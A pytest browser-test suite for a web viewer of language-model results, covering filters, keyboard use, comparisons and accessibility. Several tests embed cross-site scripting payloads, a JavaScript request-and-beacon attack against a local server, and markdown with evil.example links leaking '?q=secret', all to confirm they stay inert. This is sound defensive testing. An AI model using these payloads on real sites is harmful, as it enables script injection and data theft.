"""The page of results in a browser: what it shows, by mouse and by keyboard, and what it never does."""

import re
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from llm_provider import Choice, FailedAttempt, RateLimitError, Results, ToolCall, Usage
from support import response

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

Show = Callable[..., Any]
WORDS = ("a", "model", "answers", "that", "most", "of", "these", "rules", "follow", "from", "weights", "and")


def make_results(count: int, model: str = "m", changes: int = 3) -> Results[Any]:
    """Answers with metadata. Each 50th call failed, each 40th answer was cut."""
    results: list[Any] = []
    for number in range(count):
        metadata = {"id": f"q{number}", "topic": WORDS[number % 5]}
        if number % 50 == 7:
            error = RateLimitError("slow down", provider="p", model=model, status=429)
            error.metadata, error.failures = metadata, (FailedAttempt(error="RateLimitError", status=429),)
            results.append(error)
            continue
        text = " ".join(WORDS[(number * step) % len(WORDS)] for step in range(1, 60))
        if number % changes == 0:
            text += f" says {model}"
        choice = Choice(
            text=text, reasoning="Let me think." * 3, finish_reason="length" if number % 40 == 9 else "stop"
        )
        prompt = [
            {"role": "system", "content": "Be brief."},
            {"role": "user", "content": f"Question {number}?"},
        ]
        usage = Usage(input_tokens=number, output_tokens=10)
        results.append(
            response(
                choices=(choice,),
                prompt=prompt,
                metadata=metadata,
                usage=usage,
                model=model,
                cost=number / 1e6,
            )
        )
    return Results(results)


def first_cells(page: Any, name: str, count: int = 3) -> list[str]:
    """The texts of a column in the first rows."""
    cells = f'.ag-row[row-index="{{}}"] [col-id^="{name} "], .ag-row[row-index="{{}}"] [col-id="{name}"]'
    return [page.locator(cells.format(row, row)).first.inner_text() for row in range(count)]


def wait_for_rows(page: Any, count: str) -> None:
    """Wait until a filter has left so many rows."""
    page.locator("#count", has_text=re.compile(f"^{count} of ")).wait_for()


def count_rows(page: Any) -> str:
    text: str = page.locator("#count").inner_text()
    return text.partition(" of ")[0]


def focused(page: Any) -> tuple[str, str]:
    """The row and the column of the cell that has the focus."""
    row, column = page.evaluate(
        "[document.activeElement.closest('[row-index]')?.getAttribute('row-index'),"
        " document.activeElement.getAttribute('col-id')]"
    )
    return row, column


def test_failures_come_first_and_states_filter(show: Show) -> None:
    page = show(make_results(100))
    assert first_cells(page, "state", 6) == ["failed"] * 2 + ["incomplete"] * 3 + ["ok"]
    assert first_cells(page, "text", 1) == ["slow down [p, m, HTTP 429]"]
    page.get_by_role("button", name="incomplete 3").click()
    assert count_rows(page) == "3"
    assert page.get_by_role("grid").get_attribute("aria-rowcount") == "5"  # with two rows of headers


def test_columns_filter_and_sort(show: Show) -> None:
    page = show(make_results(100))
    page.get_by_label("topic Filter Input").fill("model")
    wait_for_rows(page, "20")
    page.get_by_role("columnheader", name="#").click()
    page.get_by_role("columnheader", name="#").click()
    assert first_cells(page, "input_index", 2) == ["96", "91"]


def test_search_finds_what_only_an_open_row_shows(show: Show) -> None:
    call = ToolCall(id="1", name="weather", arguments='{"city": "Zürich"}')
    hidden = response(choices=(Choice(text="a", reasoning="Hmm < & >", tool_calls=(call,)),))
    page = show([hidden, *make_results(20)])
    for words, count in (("zürich", "1"), ("HMM < &", "1"), ("question 3?", "1"), ("no such", "0")):
        page.locator("#search").fill(words)
        wait_for_rows(page, count)


def test_the_keyboard_alone_is_enough(show: Show) -> None:
    page = show(make_results(60))
    keys = page.keyboard
    keys.press("/")
    keys.type("q1")
    wait_for_rows(page, "11")
    keys.press("ArrowDown")
    assert focused(page) == ("0", "state")
    keys.press("ArrowDown")
    keys.press("ArrowRight")
    assert focused(page) == ("1", "input_index 0")
    keys.press("Enter")
    dialog = page.get_by_role("dialog")
    assert dialog.get_attribute("aria-labelledby") == "row-title"
    assert page.locator("#row-title").inner_text().startswith("Row 10 ")
    keys.press("ArrowRight")
    assert page.locator("#row-title").inner_text().startswith("Row 11 ")
    keys.press("Escape")
    assert not dialog.is_visible()
    assert focused(page) == ("2", "input_index 0")
    keys.press("Space")
    assert dialog.is_visible()
    keys.press("Escape")
    keys.press("/")
    keys.press("Escape")
    wait_for_rows(page, "60")
    # From the search the tabulator goes over the states to the headers, where Enter sorts.
    reached = []
    for _ in range(8):
        keys.press("Tab")
        reached.append(
            page.evaluate("document.activeElement.closest('button, [role=columnheader]')?.role ?? ''")
        )
        outline = page.evaluate(
            "['', '::after'].map((part) => getComputedStyle(document.activeElement, part)).map("
            "(style) => [style.outlineStyle, style.boxShadow, style.borderStyle].join(' ')).join(' ')"
        )
        assert set(outline.split()) != {"none"}, reached
    assert "columnheader" in reached or page.evaluate("!!document.activeElement.closest('.ag-header')")
    page.get_by_role("columnheader", name="#").focus()
    keys.press("Enter")
    keys.press("Enter")
    assert first_cells(page, "input_index", 1) == ["59"]


HOSTILE = (
    "</script><script>window.pwned=1</script><img src=x onerror=window.pwned=2>"
    "<a href='javascript:window.pwned=3'>l</a><svg onload=window.pwned=4>\u202egnp.exe\u2066 \x1b[31m"
)


def test_what_a_model_wrote_is_text(show: Show) -> None:
    calls = (ToolCall(id="1", name=HOSTILE, arguments=HOSTILE),)
    choice = Choice(text=HOSTILE, reasoning=HOSTILE, tool_calls=calls)
    message = {"role": HOSTILE, "name": HOSTILE, "content": [{"type": HOSTILE, "text": HOSTILE}]}
    error = RateLimitError(HOSTILE, provider=HOSTILE, model=HOSTILE)
    hostile = response(choices=(choice,), prompt=[message], metadata={HOSTILE: HOSTILE}, model=HOSTILE)
    page = show(
        [hostile, error],
        beside=Results([response(HOSTILE[::-1], prompt=[message]), error]),
        names=[HOSTILE, "b"],
    )
    for row in range(2):
        page.evaluate(f"openRow({row})")
        text = page.locator("#content").inner_text()
        assert "<img src=x onerror=window.pwned=2>" in text or row == 0
        assert "\u202e" not in page.locator("body").inner_text()
    assert "[U+202E]gnp.exe[U+2066] [U+001B][31m" in text
    assert page.evaluate("window.pwned") is None
    assert page.locator("#content a, #content script, svg[onload], img, #table a").count() == 0
    assert page.locator("script").count() == 5


ATTACK = """async (url) => {
    const violations = new Set();
    addEventListener("securitypolicyviolation", (event) => violations.add(event.effectiveDirective));
    const div = document.createElement("div");
    div.innerHTML = `<img src="${url}/image" onerror="window.pwned = 1"><iframe src="${url}/frame"></iframe>
        <link rel="stylesheet" href="${url}/style"><object data="${url}/object"></object>
        <video src="${url}/video"></video><p style="background: url(${url}/background)">x</p>
        <form action="${url}/form" method="post"></form><base href="${url}">`;
    document.body.append(div);
    const script = document.createElement("script");
    script.textContent = "window.pwned = 2";
    document.body.append(script);
    div.querySelector("form").submit();
    navigator.sendBeacon(`${url}/beacon`);
    await fetch(`${url}/fetch`).catch(() => null);
    await new Promise((done) => setTimeout(done, 500));
    return [window.pwned ?? null, [...violations].sort()];
}"""
"""What HTML of a model could do if it were once taken for HTML."""


def test_the_policy_stops_what_an_escape_would_have_missed(show: Show) -> None:
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            # A browser may open a connection in advance, over which it then sends nothing.
            requests.extend(filter(None, [self.rfile.readline().decode()]))
            self.close_connection = True

    page = show([response("a")], strict=False)
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        pwned, violations = page.evaluate(ATTACK, f"http://127.0.0.1:{server.server_port}")
        page.goto("about:blank")
        server.shutdown()
    assert (pwned, requests) == (None, [])
    assert {"img-src", "frame-src", "connect-src", "script-src-elem", "script-src-attr"} <= set(violations)


def test_two_runs_are_side_by_side(show: Show) -> None:
    first, second = (make_results(60, model, changes) for model, changes in (("mango", 3), ("melon", 4)))
    page = show(first, beside=second)
    header = page.get_by_role("columnheader", name="answer", exact=True)
    assert header.get_attribute("aria-colspan") == "2"
    assert page.locator("#states").inner_text().split() == (
        ["all", "60", "failed", "2", "incomplete", "2", "different", "28", "same", "28"]
    )
    page.get_by_role("button", name="different").click()
    assert count_rows(page) == "28"
    page.evaluate("openRow(0)")
    removed, added = ({*page.locator(f"#content {tag}").all_inner_texts()} for tag in ("del", "ins"))
    assert (removed | added) & {"mango", "melon"}
    assert page.locator("#content").get_by_text("Be brief.").count() == 1
    page.keyboard.press("Escape")
    page.get_by_role("button", name="same").click()
    page.evaluate("openRow(0)")
    assert page.locator("h3", has_text="Answer of both").count() == 1
    assert page.locator("#content :is(del, ins)").count() == 0


@pytest.mark.parametrize("sides", [1, 2])
def test_what_was_expected_is_beside_the_answers(show: Show, sides: int) -> None:
    texts, metadata = ["It is 16.", "It is 17."][:sides], {"id": 1, "target": "17"}
    runs = [Results([response(text, prompt="34 - 17?", metadata=metadata)]) for text in texts]
    page = show(runs[0], beside=runs[1] if sides == 2 else None)
    page.evaluate("openRow(0)")
    boxes = page.locator("#content section", has_text=re.compile("^(Answer|Expected)"))
    assert boxes.all_inner_texts() == [*(f"Answer\n{text}" for text in texts), "Expected\n17"]
    assert len({boxes.nth(index).bounding_box()["y"] for index in range(sides + 1)}) == 1


def list_columns(page: Any) -> list[str]:
    texts = page.locator(".ag-header-cell-text, .ag-header-group-text").all_inner_texts()
    return [text for text in texts if text]


def test_columns_are_in_the_order_of_reading_and_say_each_thing_once(show: Show) -> None:
    results = [
        response(
            choices=(Choice(text=f"{number}"), Choice(text="b")), prompt=f"Question {number}",
            price=number + 0.5, cost=number / 2,
            metadata={"id": number, "split": "test", "score": number % 2, "expected": "1"},
        )
        for number in range(3)
    ]  # fmt: skip
    page = show(results)
    assert list_columns(page) == ["state", "#", "sample", "prompt", "answer", "score", "price", "cost", "id"]
    same = page.locator("#same").inner_text()
    assert same.startswith("The same in all rows: ")
    assert "split test" in same
    assert "expected 1" in same
    # What the samples of a call share is in the row that carries it.
    assert first_cells(page, "price", 4) == ["$0.50", "", "$1.50", ""]
    assert first_cells(page, "sample", 4) == ["0", "1", "0", "1"]
    page.evaluate("openRow(1)")
    assert page.locator("#row-title").inner_text().startswith("Row 0, sample 1")
    facts = page.locator("#content table").inner_text()
    assert "tokens" not in facts
    assert "split" in facts


def test_the_heading_sums_up_each_model(show: Show) -> None:
    results = [
        response(
            "x" * number, prompt=f"{number}", model=model, price=0.5, cost=0.0, cached=True,
            metadata={"score": float(number > bound)},
        )
        for model, bound in (("mango", 4), ("melon", 9))
        for number in range(10)
    ]  # fmt: skip
    page = show(results)
    assert page.locator("#summary").inner_text().endswith("$0.00 paid · $10.00 price of all rows when bought")
    lines = page.locator("#strip tr").all_inner_texts()
    assert [line.split("\t")[:8] for line in lines] == [
        [
            "model",
            "questions",
            "samples",
            "score, 95 % interval",
            "price",
            "paid now",
            "median time",
            "errors",
        ],
        ["mango", "10", "10", "0.500 [0.237, 0.763]", "$5.00", "$0.00", "stored", "0"],
        ["melon", "10", "10", "0.000 [0.000, 0.278]", "$5.00", "$0.00", "stored", "0"],
    ]
    failed = RateLimitError("slow down", provider="p", model="mango", status=429)
    some = show([*results[:3], failed, response("a", prompt="b", model="mango")])
    assert some.locator("#strip tbody td").nth(1).inner_text() == "3 scored of 5"
    twice = Results([response(choices=(Choice(text="a"),) * 2, prompt=f"{n}") for n in range(3)])
    counts = show(twice.score(scores=[1, 0, 1, 1, None, None])).locator("#strip tbody td")
    assert [counts.nth(at).inner_text() for at in (1, 2)] == ["2 scored of 3", "4 scored of 6"]
    sides = [[response("a", metadata=each)] * 2 for each in ({"site": "h"}, None)]
    both = show(sides[0], beside=Results(sides[1]))
    assert "site h / \N{EN DASH}" in both.locator("#same").inner_text()
    label = page.locator("#strip .bars").first.get_attribute("aria-label")
    assert label == "score from 0 to 1: 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5"


def test_amounts_and_numbers_are_not_cut(show: Show) -> None:
    """The width of a column holds its longest number, whatever the numbers are."""
    results = [
        response("a", prompt=f"{row}", price=1.234e-5 * 10.0**-row, metadata={"id": row, "share": share})
        for row, share in enumerate((1e300, -1.23456e-300, 0.000123457, -123456.7, 1e-5, 0.0, 0.5, 2**53))
    ]
    page = show([*results, response("b", prompt="c", price=1e-30, metadata={"id": 9, "share": 1})])
    assert first_cells(page, "share", 4) == ["1e+300", "-1.235E-300", "0.000123457", "-123456.7"]
    assert first_cells(page, "price", 9)[::4] == ["$0.00001234", "$0.000000001234", "$0.00"]
    cut = """[...document.querySelectorAll(".ag-row .ag-cell-value")].filter(
        (cell) => cell.scrollWidth > cell.clientWidth).map((cell) => cell.textContent)"""
    assert page.evaluate(cut) == []


def test_numbers_and_texts_of_one_column_have_an_order(show: Show) -> None:
    values = (10, "name", None, "9", 4, 2**60, True, 1.5, "", "10")
    page = show([response("a", prompt=f"{row}", metadata={"v": value}) for row, value in enumerate(values)])
    ascending = ["", "true", "1.5", "4", "10", "", "10", str(2**60), "9", "name"]
    for order in (ascending, ascending[::-1]):
        page.get_by_role("columnheader", name="v", exact=True).click()
        assert first_cells(page, "v", len(values)) == order


def test_a_phrase_is_found_in_the_text_that_is_visible(show: Show) -> None:
    texts = ("What is 34 - 17?", "What is 17 - 34?", "34 or\n17\u202e", "What is 34\n- 17?")
    prompts = ([{"role": "user", "content": text}] for text in texts)
    page = show([response("It is assistant work.", prompt=prompt) for prompt in prompts])
    for words, count in (
        ("34 17", "4"), ('"34 - 17"', "2"), ('"34 - 17', "0"), ('"34 - 17" what', "2"), ("[u+202e]", "1"),
        ('"assistant work"', "4"), ("user", "0"), ('"17? it"', "0"), ('""', "0"), ('"$0.25"', "4"), ("", "4"),
    ):  # fmt: skip
        page.locator("#search").fill(words)
        wait_for_rows(page, count)


@pytest.mark.parametrize(("key", "opens"), [("ArrowDown", False), ("Enter", True), ("/", False)])
def test_keys_work_from_the_start(show: Show, key: str, opens: bool) -> None:
    page = show(make_results(20))
    page.keyboard.press(key)
    assert page.get_by_role("dialog").is_visible() == opens
    if key == "ArrowDown":
        assert focused(page) == ("0", "state")
    if key == "/":
        assert page.evaluate("document.activeElement.id") == "search"


HUES = """() => [...document.querySelectorAll("body *")].flatMap((node) => {
    if (!node.checkVisibility() || node.closest(".right, .wrong")) return [];
    const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
    const style = getComputedStyle(node);
    return [style.color, style.backgroundColor].map((color) => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = color;
        canvas.fillRect(0, 0, 1, 1);
        const [red, green, blue, alpha] = canvas.getImageData(0, 0, 1, 1).data;
        const most = Math.max(red, green, blue), spread = most - Math.min(red, green, blue);
        const is = alpha && spread > 24 && ((most === red && green - blue < spread / 3) || most === green);
        return is ? `${node.tagName} ${node.className} ${color}` : "";
    }).filter(Boolean);
})"""
"""The elements that are red or green, and no scores."""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_green_and_red_are_for_scores_alone(show: Show, scheme: str) -> None:
    scored = [response("a", prompt=f"{number}", metadata={"score": number % 2}) for number in range(4)]
    page = show([*scored, *make_results(60)], scheme=scheme)
    page.locator("#states button", has_text="ok").click()
    assert page.evaluate(HUES) == []
    assert page.locator("#table .right").first.inner_text() == "1"
    page = show(make_results(60), beside=make_results(60, "melon", 4), scheme=scheme)
    page.locator("#states button", has_text="different").click()
    page.evaluate("openRow(0)")
    assert page.locator("#content ins").count() > 0
    assert page.evaluate(HUES) == []


def test_a_phone_shows_the_prompt_and_the_answer(show: Show) -> None:
    page = show(make_results(60))
    page.set_viewport_size({"width": 390, "height": 800})
    page.wait_for_function("document.querySelectorAll('.ag-header-cell-text').length === 2")
    assert list_columns(page) == ["prompt", "answer"]
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.locator(".ag-row").nth(5).click()
    assert page.evaluate("document.querySelector('dialog').scrollWidth") <= 390


def test_a_conversation_is_bubbles(show: Show) -> None:
    roles = ("system", "user", "assistant", "user")
    prompt = [{"role": role, "content": f"{role} says this"} for role in roles]
    page = show([response("a", prompt=prompt)])
    page.evaluate("openRow(0)")
    bubbles = page.locator("#content .bubble")
    assert [text.split("\n") for text in bubbles.all_inner_texts()] == [
        [role, "", f"{role} says this"] for role in roles
    ]
    right = [bubbles.nth(index).bounding_box() for index in range(4)]
    edges = [box["x"] + box["width"] for box in right]
    assert edges[1] == edges[3] > max(edges[0], edges[2])


MARKDOWN = f"""# Steps

1. *Take* **34 - 17**, ~~not~~ `17`:

```html
<script>window.pwned = 1</script>
```

| a | b |
|---|---|
| 1 | 2 |

<img src=x onerror=window.pwned=2> <b>bold</b>

<div onclick="window.pwned=3">
block
</div>

![secret](https://evil.example/p.png?q=secret "t") [a page](https://evil.example/?q=1)
<https://evil.example/auto> [run](javascript:window.pwned=4) [data](data:text/html,x)
![i](data:image/svg+xml,x) [reference][r] {HOSTILE}

[r]: https://evil.example/r
"""


def test_markdown_is_rendered_on_demand_and_by_a_list_of_what_it_may_make(show: Show) -> None:
    page = show([response(MARKDOWN, prompt=MARKDOWN)])
    page.evaluate("openRow(0)")
    assert page.locator("#content :is(h1, .rendered)").count() == 0
    page.keyboard.press("m")
    assert page.locator("#content .rendered").count() == 2
    answer = page.locator("#content .rendered").last
    for tag, text in (("h1", "Steps"), ("em", "Take"), ("strong", "34 - 17"), ("s", "not"), ("td", "1")):
        assert answer.locator(tag).first.inner_text() == text
    assert "<script>window.pwned = 1</script>" in answer.locator("pre").inner_text()
    text = answer.inner_text()
    for shown in (
        "<img src=x onerror=window.pwned=2> <b>bold</b>", '<div onclick="window.pwned=3">',
        "[secret] (https://evil.example/p.png?q=secret)", "a page (https://evil.example/?q=1)",
        "[run](javascript:window.pwned=4)", "[data](data:text/html,x)", "[U+202E]gnp.exe",
        "reference (https://evil.example/r)",
    ):  # fmt: skip
        assert shown in text
    made = page.evaluate("[...document.querySelectorAll('.rendered *')].map((node) => node.localName)")
    assert {*made} <= {
        "h1", "p", "ol", "li", "em", "strong", "s", "code", "pre", "table", "thead", "tbody", "tr", "th",
        "td", "br",
    }  # fmt: skip
    attributes = "[...document.querySelectorAll('.rendered *')].flatMap((node) => node.getAttributeNames())"
    assert {*page.evaluate(attributes)} <= {"class", "start"}
    assert page.evaluate("window.pwned") is None
    page.get_by_role("button", name="Markdown").click()
    assert page.locator("#content .rendered").count() == 0


@pytest.mark.parametrize(
    "text", ["[" * 50_000, "> " * 20_000 + "a", "* " * 20_000, "*a_" * 30_000, "`" * 60_000]
)
def test_markdown_that_is_all_marks_is_shown(show: Show, text: str) -> None:
    page = show([response(text)])
    page.evaluate("openRow(0)")
    page.keyboard.press("m")
    page.wait_for_selector("#content .rendered")


def test_a_long_difference_is_not_computed(show: Show) -> None:
    """Two texts without a common word take quadratic time."""
    long, other = (" ".join(f"{letter}{number}" for number in range(100_000)) for letter in "ab")
    page = show([response(long, prompt="q")], beside=Results([response(other, prompt="q")]))
    page.evaluate("openRow(0)")
    assert page.locator("#content :is(del, ins)").count() == 0
    assert page.locator("#content pre").count() == 3


def test_ten_thousand_rows_are_few_elements(show: Show) -> None:
    page = show(make_results(10_000))
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable")

    def count_nodes() -> float:
        session.send("HeapProfiler.collectGarbage")
        metrics = session.send("Performance.getMetrics")["metrics"]
        return next(float(metric["value"]) for metric in metrics if metric["name"] == "Nodes")

    before = count_nodes()
    most = page.evaluate(
        """async () => {
            const view = document.querySelector(".ag-grid-viewport, .ag-body-viewport");
            let most = 0;
            for (let step = 0; step <= 100; step++) {
                view.scrollTop = view.scrollHeight * step / 100;
                await new Promise(requestAnimationFrame);
                most = Math.max(most, document.querySelectorAll(".ag-row").length);
            }
            return most;
        }"""
    )
    assert most < 120
    page.wait_for_selector('.ag-row[row-index="9999"]')
    assert count_nodes() < before * 1.5
    page.locator("#search").fill("q99")
    wait_for_rows(page, "111")
    page.get_by_role("columnheader", name="#").click()
    assert page.locator(".ag-row").count() < 120


CONTRAST = """() => {
    const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
    const parse = (color) => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = color;
        canvas.fillRect(0, 0, 1, 1);
        const [red, green, blue, alpha] = canvas.getImageData(0, 0, 1, 1).data;
        return [[red, green, blue], alpha / 255];
    };
    const over = ([color, alpha], below) =>
        color.map((part, index) => part * alpha + below[index] * (1 - alpha));
    const back = (node) => node === null
        ? parse("Canvas")[0] : over(parse(getComputedStyle(node).backgroundColor), back(node.parentElement));
    const light = (color) => {
        const linear = (part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
        const [red, green, blue] = color.map((value) => linear(value / 255));
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
    };
    const poor = [];
    let count = 0;
    for (const node of document.querySelectorAll("body *")) {
        const text = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
        if (!text || !node.checkVisibility() || node.matches("script, style, :disabled")) continue;
        const below = back(node);
        const both = [light(over(parse(getComputedStyle(node).color), below)), light(below)];
        const ratio = (Math.max(...both) + 0.05) / (Math.min(...both) + 0.05);
        count += 1;
        if (ratio < 4.5) poor.push([node.className || node.tagName, node.textContent.slice(0, 20), ratio]);
    }
    return [count, poor];
}"""
"""The number of elements with text, and those whose contrast is below 4.5:1."""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_has_enough_contrast(show: Show, scheme: str) -> None:
    page = show(make_results(60), beside=make_results(60, "melon", 4), scheme=scheme)
    for step in ("", "document.querySelector('#states button:last-child').click()", "openRow(0)"):
        page.evaluate(step or "null")
        for row in range(3 if step == "openRow(0)" else 1):
            if row:
                page.keyboard.press("ArrowRight")
            count, poor = page.evaluate(CONTRAST)
            assert count > 60
            assert poor == []


NAMES = """[...document.querySelectorAll("button, input, [role=grid], dialog, img")].filter((node) =>
    node.tabIndex >= 0 && !(node.ariaLabel || node.textContent.trim() || node.ariaLabelledByElements?.length
    || node.alt || node.labels?.[0]?.textContent)).map((node) => node.outerHTML.slice(0, 80))"""


def test_each_control_has_a_name(show: Show) -> None:
    page = show(make_results(10))
    page.evaluate("openRow(0)")
    assert page.evaluate(NAMES) == []
